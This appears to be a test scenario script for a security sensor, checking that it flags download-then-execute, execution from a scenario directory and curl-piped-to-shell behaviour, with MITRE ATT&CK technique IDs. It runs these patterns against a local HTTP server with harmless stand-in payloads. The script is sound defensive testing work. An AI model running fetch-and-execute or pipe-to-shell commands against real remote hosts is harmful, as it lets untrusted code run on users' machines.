#!/bin/bash
# A payload is downloaded with curl, made executable and run; a second one is piped into sh.
# expect: sensor.execution.download_then_execute T1105
# expect: sensor.execution.from_tmp T1204.002
# expect: sensor.execution.download_pipe_shell T1059.004
. "$(dirname "$0")/lib.sh"
http_server
port=$HTTP_PORT
cp /bin/true "$SCN_DIR/www/update"
printf 'echo piped\n' > "$SCN_DIR/www/i.sh"
curl -s -o "$SCN_DIR/update" "http://127.0.0.1:$port/update"
chmod +x "$SCN_DIR/update"
"$SCN_DIR/update" > /dev/null
sh -c "curl -s http://127.0.0.1:$port/i.sh | sh" > /dev/null
stop_http_server
